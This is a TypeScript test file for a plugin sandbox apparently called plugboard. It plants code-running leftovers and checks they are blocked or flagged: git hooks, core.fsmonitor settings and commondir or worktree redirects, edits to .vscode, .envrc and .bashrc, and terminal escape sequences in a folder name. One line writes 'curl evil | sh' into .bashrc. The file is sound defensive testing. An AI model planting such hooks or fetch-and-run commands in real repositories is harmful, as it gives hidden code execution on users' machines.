/**
 * What a confined plugin leaves behind for the person's own tools (DESIGN.md, fourth edition,
 * "Nothing a plugin leaves behind is trusted later": version control that runs code, files
 * other tools run on their own), each attack made through the real CLI by confined bash, then
 * judged as the person would meet it: by running the real `git` afterwards, unconfined. Each
 * runs again with the sandbox off, where the attack works, so each test fails if its
 * defence goes.
 */
import { describe, expect, test } from "bun:test";
import { existsSync, readdirSync, readFileSync, realpathSync } from "node:fs";
import { mkdir, readFile, writeFile } from "node:fs/promises";
import { join, relative } from "node:path";
import { FIRST_PARTY, type Finished, plugboard, tempFolder } from "./helpers.ts";

/** Each test starts several CLI processes and hosts: generous on a busy machine. */
const TIMEOUT_MS = 60_000;
const BASH = FIRST_PARTY.find(({ path }) => path.endsWith("/bash")) ?? FIRST_PARTY[0];
type Sandbox = "auto" | "off";

/** A workspace (its own config, sandbox as given), with a git repository at its root holding one commit. */
async function project(sandbox: Sandbox, extra: Record<string, unknown> = {}) {
  const folder = await tempFolder({ "notes.txt": "hello\n" });
  const dir = realpathSync(folder.dir);
  git(dir, "init", "-q");
  git(dir, "add", "notes.txt");
  git(dir, "commit", "-q", "-m", "first");
  const config = join(dir, "plugboard.config.json");
  await writeFile(config, JSON.stringify({ workspace: ".", sandbox, audit: "audit.jsonl", plugins: [BASH], ...extra }, null, 2));
  return { ...folder, dir, config };
}

/** The person's own git, unconfined, with no global or system config of the machine's. */
function git(cwd: string, ...args: string[]): { code: number; out: string } {
  const env = { PATH: process.env.PATH ?? "/usr/bin:/bin", HOME: cwd, GIT_CONFIG_NOSYSTEM: "1", GIT_AUTHOR_NAME: "Person", GIT_AUTHOR_EMAIL: "p@example.com", GIT_COMMITTER_NAME: "Person", GIT_COMMITTER_EMAIL: "p@example.com" };
  const run = Bun.spawnSync(["git", ...args], { cwd, env, stdout: "pipe", stderr: "pipe" });
  return { code: run.exitCode, out: `${run.stdout.toString()}${run.stderr.toString()}` };
}

const bash = (config: string, command: string, cwd: string): Promise<Finished> => plugboard(["call", "--config", config, "bash", JSON.stringify({ command })], { cwd });
const lastLine = (finished: Finished) => finished.stdout.trimEnd().split("\n").at(-1) ?? "";
/** A config line that runs a command writing `marker` (git runs `core.fsmonitor` on every `git status`). */
const fsmonitor = (marker: string) => `[core]\\n\\tfsmonitor = echo ran >> ${marker}; true\\n`;
/** A hook that writes `marker`. */
const hook = (path: string, marker: string) => `mkdir -p ${path.replace(/\/[^/]+$/, "")} && printf '#!/bin/sh\\necho ran >> ${marker}\\n' > ${path} && chmod +x ${path}`;
/**
 * Every path in `dir`, recursively, as a sorted list (the person's listing of the workspace),
 * but git's objects and logs, the audit log the config names, and `.plugboard/` (made for
 * large results, see core's results.ts).
 */
const listing = (dir: string) =>
  readdirSync(dir, { recursive: true, withFileTypes: true })
    .map((entry) => relative(dir, join(entry.parentPath, entry.name)))
    .filter((path) => !/^(?:\.git\/objects|\.git\/logs|\.plugboard)(?:\/|$)/.test(path) && path !== "audit.jsonl")
    .sort();

describe("version control that runs code", () => {
  test("1. a .git/commondir pointing at a copy with core.fsmonitor is moved aside after the call: the person's git status runs nothing", async () => {
    const attack = (marker: string) => `cp -r .git evil && printf '${fsmonitor(marker)}' >> evil/config && echo ../evil > .git/commondir && echo planted`;
    await using ws = await project("auto");
    const marker = join(ws.dir, "marker");
    const attacked = await bash(ws.config, attack(marker), ws.dir);
    expect(attacked.stdout).toContain("planted\nexit code: 0\n");
    expect(lastLine(attacked)).toBe(
      "plugboard: @plugboard/plugin-bash wrote .git/commondir into a repository that had none: it points git at ../evil for its config and hooks (core.fsmonitor), which would run code on your next git command there; plugboard moved it to .git/commondir.plugboard-refused",
    );
    expect(attacked.stderr).toContain("warning: @plugboard/plugin-bash wrote .git/commondir into a repository that had none");
    expect(existsSync(join(ws.dir, ".git/commondir"))).toBe(false);
    expect(git(ws.dir, "status", "--short").code).toBe(0);
    expect(existsSync(marker)).toBe(false);
    const audit = readFileSync(join(ws.dir, "audit.jsonl"), "utf8").split("\n").filter((line) => line.includes('"event":"leftover"'));
    expect(audit.map((line) => JSON.parse(line))).toEqual([
      expect.objectContaining({ event: "leftover", plugin: "@plugboard/plugin-bash", tool: "bash", kind: "git-metadata", path: ".git/commondir", pointsTo: "../evil", runs: ["core.fsmonitor"], movedTo: ".git/commondir.plugboard-refused" }),
    ]);

    await using twin = await project("off");
    const twinMarker = join(twin.dir, "marker");
    await bash(twin.config, attack(twinMarker), twin.dir);
    git(twin.dir, "status", "--short");
    expect(readFileSync(twinMarker, "utf8")).toContain("ran");
  }, TIMEOUT_MS);

  test("1b. the same copy's config padded past what a config may hold (8 MiB): git reads it whole, and so does the look, which names core.fsmonitor", async () => {
    const attack = (marker: string) => `cp -r .git evil && yes '# padding' | head -c 9000000 >> evil/config && printf '${fsmonitor(marker)}' >> evil/config && echo ../evil > .git/commondir && echo planted`;
    await using ws = await project("auto");
    const attacked = await bash(ws.config, attack(join(ws.dir, "marker")), ws.dir);
    expect(attacked.stdout).toContain("planted\nexit code: 0\n");
    expect(lastLine(attacked)).toContain("it points git at ../evil for its config and hooks (core.fsmonitor), which would run code on your next git command there");
    const audit = readFileSync(join(ws.dir, "audit.jsonl"), "utf8").split("\n").filter((line) => line.includes('"event":"leftover"'));
    expect(audit.map((line) => JSON.parse(line))).toEqual([expect.objectContaining({ path: ".git/commondir", runs: ["core.fsmonitor"] })]);
  }, TIMEOUT_MS);

  test("2. a nested repository that existed before the session: its hooks and config are refused; 5. commits still work, there and at the root", async () => {
    const attack = (marker: string) => [hook("vendor/lib/.git/hooks/pre-commit", marker), `printf '${fsmonitor(marker)}' >> vendor/lib/.git/config`].join("\n");
    const commit = [
      "who='-c user.name=Confined -c user.email=c@example.com'",
      "echo more >> notes.txt && git add notes.txt && git $who commit -q -m 'root, from the sandbox' && git log --format=%s -1",
      "cd vendor/lib && echo more >> lib.txt && git add lib.txt && git $who commit -q -m 'nested, from the sandbox' && git log --format=%s -1",
    ].join(" && ");
    const nested = async (sandbox: Sandbox) => {
      const ws = await project(sandbox);
      await mkdir(join(ws.dir, "vendor/lib"), { recursive: true });
      await writeFile(join(ws.dir, "vendor/lib/lib.txt"), "lib\n");
      git(join(ws.dir, "vendor/lib"), "init", "-q");
      return ws;
    };
    await using ws = await nested("auto");
    const marker = join(ws.dir, "marker");
    const attacked = await bash(ws.config, attack(marker), ws.dir);
    expect(attacked.stdout).toContain("vendor/lib/.git/hooks/pre-commit: Read-only file system");
    expect(attacked.stdout).toContain("vendor/lib/.git/config: Read-only file system");
    expect(lastLine(attacked)).toBe(
      "plugboard: refused by the sandbox: @plugboard/plugin-bash may not write vendor/lib/.git/hooks/pre-commit: it is a protected path (vendor/lib/.git/hooks/, always protected)",
    );
    // Commits still work, in the nested repository as at the root.
    expect((await bash(ws.config, commit, ws.dir)).stdout).toBe("root, from the sandbox\nnested, from the sandbox\nexit code: 0\n");
    expect(git(ws.dir, "log", "--format=%s", "-1").out).toBe("root, from the sandbox\n");
    // The person's own commit and status there run nothing.
    expect(git(join(ws.dir, "vendor/lib"), "commit", "-q", "--allow-empty", "-m", "mine").code).toBe(0);
    git(join(ws.dir, "vendor/lib"), "status");
    expect(existsSync(marker)).toBe(false);

    await using twin = await nested("off");
    const twinMarker = join(twin.dir, "marker");
    await bash(twin.config, attack(twinMarker), twin.dir);
    git(join(twin.dir, "vendor/lib"), "commit", "-q", "--allow-empty", "-m", "mine");
    // The hook ran at the commit, the fsmonitor command too.
    expect(readFileSync(twinMarker, "utf8").split("\n").filter((line) => line.startsWith("ran")).length).toBeGreaterThanOrEqual(2);
  }, TIMEOUT_MS);

  /** A workspace whose repository has a linked worktree in `sub/wt` (a `.git` file) and a submodule's git folder in `.git/modules/`. */
  const withWorktree = async (sandbox: Sandbox) => {
    const ws = await project(sandbox);
    git(ws.dir, "worktree", "add", "-q", "sub/wt");
    await mkdir(join(ws.dir, ".git/modules/lib"), { recursive: true });
    await writeFile(join(ws.dir, ".git/modules/lib/config"), "[core]\n\tbare = false\n");
    return ws;
  };

  test("3. a .git file (a linked worktree's pointer) cannot be pointed at another repository", async () => {
    const attack = (marker: string) => `cp -r .git evil && printf '${fsmonitor(marker)}' >> evil/config && echo 'gitdir: ../../evil' > sub/wt/.git`;
    await using ws = await withWorktree("auto");
    const marker = join(ws.dir, "marker");
    const attacked = await bash(ws.config, attack(marker), ws.dir);
    expect(attacked.stdout).toContain("sub/wt/.git: Read-only file system");
    expect(lastLine(attacked)).toBe("plugboard: refused by the sandbox: @plugboard/plugin-bash may not write sub/wt/.git: it is a protected path (sub/wt/.git, a link to a repository elsewhere, always protected)");
    git(join(ws.dir, "sub/wt"), "status");
    expect(existsSync(marker)).toBe(false);

    await using twin = await withWorktree("off");
    const twinMarker = join(twin.dir, "marker");
    await bash(twin.config, attack(twinMarker), twin.dir);
    git(join(twin.dir, "sub/wt"), "status");
    expect(readFileSync(twinMarker, "utf8")).toContain("ran");
  }, TIMEOUT_MS);

  test("4. .git/info/, .git/modules/ and .git/worktrees/ are refused", async () => {
    const targets = [".git/info/attributes", ".git/modules/lib/config", ".git/worktrees/wt/config.worktree", ".git/worktrees/wt/commondir"];
    const attack = targets.map((target) => `echo planted >> ${target} && echo wrote ${target}`).join("\n");
    await using ws = await withWorktree("auto");
    const before = Object.fromEntries(targets.map((target) => [target, existsSync(join(ws.dir, target)) ? readFileSync(join(ws.dir, target), "utf8") : undefined]));
    const attacked = await bash(ws.config, attack, ws.dir);
    for (const target of targets) expect(attacked.stdout).toContain(`${target}: Read-only file system`);
    expect(attacked.stdout).not.toContain("wrote");
    for (const target of targets) expect(existsSync(join(ws.dir, target)) ? readFileSync(join(ws.dir, target), "utf8") : undefined).toBe(before[target]);

    await using twin = await withWorktree("off");
    const written = await bash(twin.config, attack, twin.dir);
    for (const target of targets) expect(written.stdout).toContain(`wrote ${target}`);
  }, TIMEOUT_MS);

  test("6. a repository a call creates, with a hook and core.fsmonitor: the result's last line, stderr, the audit and check name it; the next call cannot change its hooks", async () => {
    const create = "mkdir -p tools/x && cd tools/x && git init -q && printf '#!/bin/sh\\nexit 0\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && git config core.fsmonitor 'echo ran >> ../../marker; true' && echo created";
    const change = "echo 'echo changed' >> tools/x/.git/hooks/pre-commit && echo changed";
    await using ws = await project("auto");
    const created = await bash(ws.config, create, ws.dir);
    const said =
      "@plugboard/plugin-bash created a git repository at tools/x/.git, whose hook pre-commit and core.fsmonitor would run code on your next git command there; plugboard keeps them read-only from the next call";
    expect(created.stdout).toContain("created\nexit code: 0\n");
    expect(lastLine(created)).toBe(`plugboard: ${said}`);
    expect(created.stderr).toContain(`warning: ${said}`);
    const audit = (await readFile(join(ws.dir, "audit.jsonl"), "utf8")).split("\n").filter((line) => line.includes('"event":"leftover"'));
    expect(audit.map((line) => JSON.parse(line))).toEqual([expect.objectContaining({ kind: "repository", path: "tools/x/.git", runs: ["hook pre-commit", "core.fsmonitor"] })]);
    const changed = await bash(ws.config, change, ws.dir);
    expect(changed.stdout).toContain("tools/x/.git/hooks/pre-commit: Read-only file system");
    expect(readFileSync(join(ws.dir, "tools/x/.git/hooks/pre-commit"), "utf8")).toBe("#!/bin/sh\nexit 0\n");
    const check = await plugboard(["check", "--offline", "--config", ws.config], { cwd: ws.dir });
    expect(check.stdout).toContain("             git: 2 repositories\n               .git: config, hooks/, info/\n");
    expect(check.stdout).toContain("               tools/x/.git: config, hooks/, info/; made while plugins could write the workspace, runs code: hook pre-commit, core.fsmonitor\n");

    await using twin = await project("off");
    const unconfined = await bash(twin.config, create, twin.dir);
    expect(unconfined.stdout).toBe("created\nexit code: 0\n");
    expect((await bash(twin.config, change, twin.dir)).stdout).toBe("changed\nexit code: 0\n");
  }, TIMEOUT_MS);

  test("9. \"protectDepth\" bounds the walk: a repository deeper is not protected, and check warns of it", async () => {
    const attack = "echo planted >> a/b/c/.git/config && echo deep written; echo planted >> a/b/.git/config && echo shallow written";
    const layered = async (extra: Record<string, unknown>) => {
      const ws = await project("auto", extra);
      for (const folder of ["a/b", "a/b/c"]) {
        await mkdir(join(ws.dir, folder), { recursive: true });
        git(join(ws.dir, folder), "init", "-q");
      }
      return ws;
    };
    await using shallow = await layered({ protectDepth: 2 });
    const attacked = await bash(shallow.config, attack, shallow.dir);
    expect(attacked.stdout).toContain("deep written");
    expect(attacked.stdout).toContain("a/b/.git/config: Read-only file system");
    const check = await plugboard(["check", "--offline", "--config", shallow.config], { cwd: shallow.dir });
    expect(check.stdout).toContain('to 2 folder levels deep ("protectDepth")');
    expect(check.stdout).toContain(
      `  warning: a/b/c/.git lies deeper than "protectDepth" (2): its hooks and config are not protected; raise "protectDepth" in ${shallow.config} to protect them\n`,
    );

    await using deep = await layered({});
    const refused = await bash(deep.config, attack, deep.dir);
    expect(refused.stdout).toContain("a/b/c/.git/config: Read-only file system");
    expect(refused.stdout).not.toContain("written");
    expect((await plugboard(["check", "--offline", "--config", deep.config], { cwd: deep.dir })).stdout).not.toContain("warning:");
  }, TIMEOUT_MS);
});

describe("files other tools run on their own", () => {
  const FILES = [".vscode/tasks.json", ".idea/workspace.xml", ".mcp.json", ".envrc", ".bashrc", ".profile", ".zshrc", "sub/project/.vscode/tasks.json"];

  test("7. existing .vscode/, .idea/, .mcp.json, .envrc and shell start-up files, at the root or deeper, are refused, the hint naming the rule", async () => {
    const withFiles = async (sandbox: Sandbox) => {
      const ws = await project(sandbox);
      for (const file of FILES) {
        await mkdir(join(ws.dir, file, ".."), { recursive: true });
        await writeFile(join(ws.dir, file), "original\n");
      }
      return ws;
    };
    const attack = FILES.map((file) => `echo planted > ${file}`).join("\n");
    await using ws = await withFiles("auto");
    const attacked = await bash(ws.config, attack, ws.dir);
    for (const file of FILES) {
      expect(attacked.stdout).toContain(`${file}: Read-only file system`);
      expect(readFileSync(join(ws.dir, file), "utf8")).toBe("original\n");
    }
    expect(lastLine(attacked)).toBe(
      "plugboard: refused by the sandbox: @plugboard/plugin-bash may not write .vscode/tasks.json: it is a protected path (.vscode/, other tools run it on their own, always protected)",
    );
    expect((await bash(ws.config, "echo x > .envrc", ws.dir)).stdout).toEndWith("it is a protected path (.envrc, other tools run it on their own, always protected)\n");

    await using twin = await withFiles("off");
    await bash(twin.config, attack, twin.dir);
    for (const file of FILES) expect(readFileSync(join(twin.dir, file), "utf8")).toBe("planted\n");
  }, TIMEOUT_MS);

  test("8. absent ones are never created to be protected (the listing is unchanged by a call that writes nothing); one a call creates is shown and listed by check", async () => {
    const create = "mkdir -p .vscode && echo '{}' > .vscode/tasks.json && echo 'curl evil | sh' > .bashrc && echo made";
    // A repository made without git's templates has no hooks/ folder: none is made for it either.
    const bare = async (sandbox: Sandbox) => {
      const ws = await project(sandbox);
      await mkdir(join(ws.dir, "plain"));
      git(join(ws.dir, "plain"), "init", "-q", "--template=");
      return ws;
    };
    await using ws = await bare("auto");
    const before = listing(ws.dir);
    expect(before).not.toContain("plain/.git/hooks");
    expect((await bash(ws.config, "true", ws.dir)).stdout).toBe("(no output)\nexit code: 0\n");
    expect(listing(ws.dir)).toEqual(before);

    const made = await bash(ws.config, create, ws.dir);
    const said =
      "@plugboard/plugin-bash created .bashrc, which a shell runs at its start when this folder is your home; plugboard keeps it read-only from the next call; created .vscode/, which your editor reads for tasks to run when the folder opens; plugboard keeps it read-only from the next call";
    expect(lastLine(made)).toBe(`plugboard: ${said}`);
    expect(made.stderr).toContain(`warning: ${said}`);
    const hooked = await bash(ws.config, "mkdir plain/.git/hooks && echo 'echo ran' > plain/.git/hooks/post-checkout", ws.dir);
    expect(lastLine(hooked)).toBe(
      "plugboard: @plugboard/plugin-bash wrote plain/.git/hooks into a repository that had none (now hook post-checkout would run code on your next git command there); plugboard keeps it read-only from the next call",
    );
    const check = await plugboard(["check", "--offline", "--config", ws.config], { cwd: ws.dir });
    expect(check.stdout).toContain("             other tools' files: .bashrc (made while plugins could write the workspace), .vscode/ (made while plugins could write the workspace)\n");

    await using twin = await bare("off");
    const unconfined = await bash(twin.config, create, twin.dir);
    expect(unconfined.stdout).toBe("made\nexit code: 0\n");
  }, TIMEOUT_MS);
});

describe("what a call leaves behind, named to the person", () => {
  test("a repository whose folder's name carries escape sequences is named with them written out, on stderr and in the result; the folder really has them", async () => {
    await using ws = await project("auto");
    const name = "x\u001b]0;owned\u0007\u001b[2J";
    const made = await bash(ws.config, `d=$(printf 'x\\033]0;owned\\007\\033[2J') && mkdir "$d" && cd "$d" && git init -q && echo made`, ws.dir);
    // The folder on disk is named with the raw bytes: what would reach the terminal without the writing out.
    expect(existsSync(join(ws.dir, name, ".git"))).toBe(true);
    const shown = "x\\x1b]0;owned\\x07\\x1b[2J/.git";
    expect(made.stderr).toContain(`created a git repository at ${shown}`);
    expect(lastLine(made)).toContain(`created a git repository at ${shown}`);
    expect(`${made.stdout}${made.stderr}`).not.toContain("\u001b");
  }, TIMEOUT_MS);
});
